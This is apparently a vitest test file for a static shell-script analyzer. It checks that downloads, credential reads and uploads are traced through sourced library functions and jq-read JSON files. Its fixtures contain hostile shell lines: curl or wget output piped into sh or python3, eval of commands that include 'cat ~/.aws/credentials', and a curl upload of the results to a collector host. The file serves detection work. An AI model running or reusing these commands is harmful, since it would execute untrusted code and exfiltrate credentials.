import { describe, expect, it } from 'vitest';
import type { AnalyzeCodeResult } from '../../../src/analysis/code/index.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Behaviour a script gets from other files of its tree: functions of the libraries it sources, run at the
 * call with the call's arguments and reported there, and values `jq` prints from a JSON file of the tree
 * (commands run with `eval`, addresses). Look-alikes: a library function the script never calls, a jq filter
 * the evaluator does not model, a data file nobody evaluates.
 */

const downloadRuns = (r: AnalyzeCodeResult) =>
  ofKind(r, 'execute').filter((e) => e.code.taints.includes('download'));

const FETCH_LIB =
  'retrieve_into() {\n  local -n _d="$1"\n  _d="$(curl -fsSL "$2")"\n}\nsay() { echo "$*"; }\n';

describe('functions of sourced libraries', () => {
  it('runs a library function at the call: a nameref filled with a download, run by a here-string', async () => {
    const script =
      '. "$HERE/lib/http.sh"\nretrieve_into step "https://cdn.example-mirror.net/s.sh"\nbash -s <<< "$step"\n';
    const r = await factsOf('shell', script, { libraries: [FETCH_LIB] });
    const runs = downloadRuns(r);
    expect(runs.length).toBeGreaterThan(0);
    // The library's fetch is reported at the call in the script, with the library's words as evidence.
    const fetch = ofKind(r, 'fetch')[0]!;
    expect(fetch.endpoint.host).toBe('cdn.example-mirror.net');
    expect(fetch.at.startLine).toBe(2);
    expect(fetch.evidence).toContain('curl -fsSL');
  });

  it('pipes what a library function prints into an interpreter', async () => {
    const r = await factsOf('shell', 'source lib.sh\npull https://203.0.113.9/p.py | python3 -\n', {
      libraries: ['pull() {\n  wget -qO- "$1"\n}\n'],
    });
    expect(downloadRuns(r).map((e) => e.at.startLine)).toEqual([2]);
  });

  it('leaves uncalled library functions and the script’s own later definition alone', async () => {
    const uncalled = await factsOf('shell', '. lib.sh\nsay hello\n', { libraries: [FETCH_LIB] });
    expect(ofKind(uncalled, 'fetch')).toEqual([]);
    const own = await factsOf('shell', '. lib.sh\npull() { cat "$1"; }\npull notes.txt | sh\n', {
      libraries: ['pull() {\n  curl -fsSL "$1"\n}\n'],
    });
    expect(downloadRuns(own)).toEqual([]);
  });
});

describe('jq over a JSON file of the tree', () => {
  const probes = JSON.stringify({
    probes: ['uname -a', 'cat ~/.aws/credentials'],
    upload: { url: 'https://intake.collector-hub.net/v1' },
  });

  it('evaluates path filters: commands run through mapfile and eval, an address read with -r', async () => {
    const script =
      'mapfile -t probes < <(jq -r \'.probes[]\' "$HERE/probes.json")\nfor c in "${probes[@]}"; do eval "$c" >> out; done\n' +
      'url=$(jq -r .upload.url "$HERE/probes.json")\ncurl -F "b=@out" "$url"\n';
    const r = await factsOf('shell', script, { dataFiles: { 'probes.json': probes } });
    expect(ofKind(r, 'read').some((x) => x.secret === 'cloud-credentials')).toBe(true);
    expect(ofKind(r, 'send').map((s) => s.endpoint.host)).toContain('intake.collector-hub.net');
  });

  it('reads quoted keys, indexes, keys[] and piped stages', async () => {
    const data = JSON.stringify({
      'run-steps': [{ cmd: 'curl -fsSL https://boot.example-mirror.net/i | sh' }],
    });
    for (const filter of ['.["run-steps"][0].cmd', '."run-steps" | .[] | .cmd', '.["run-steps"][]?.cmd'])
      expect(
        downloadRuns(
          await factsOf('shell', `eval "$(jq -r '${filter}' steps.json)"\n`, {
            dataFiles: { 'steps.json': data },
          }),
        ),
        filter,
      ).not.toEqual([]);
  });

  it('keeps the output unknown for filters it does not model and for files it was not given', async () => {
    const data = JSON.stringify({ boot: 'curl -fsSL https://boot.example-mirror.net/i | sh' });
    const select = await factsOf('shell', `eval "$(jq -r '.boot | select(length > 0)' s.json)"\n`, {
      dataFiles: { 's.json': data },
    });
    expect(downloadRuns(select)).toEqual([]);
    const other = await factsOf('shell', `eval "$(jq -r .boot other.json)"\n`, {
      dataFiles: { 's.json': data },
    });
    expect(downloadRuns(other)).toEqual([]);
    // A key the object only inherits is no value of the file.
    const proto = await factsOf('shell', `x=$(jq -r '.constructor' s.json)\necho "$x" | sh\n`, {
      dataFiles: { 's.json': data },
    });
    expect(ofKind(proto, 'execute').map((e) => e.code.text)).not.toContain(
      'function Object() { [native code] }',
    );
  });
});
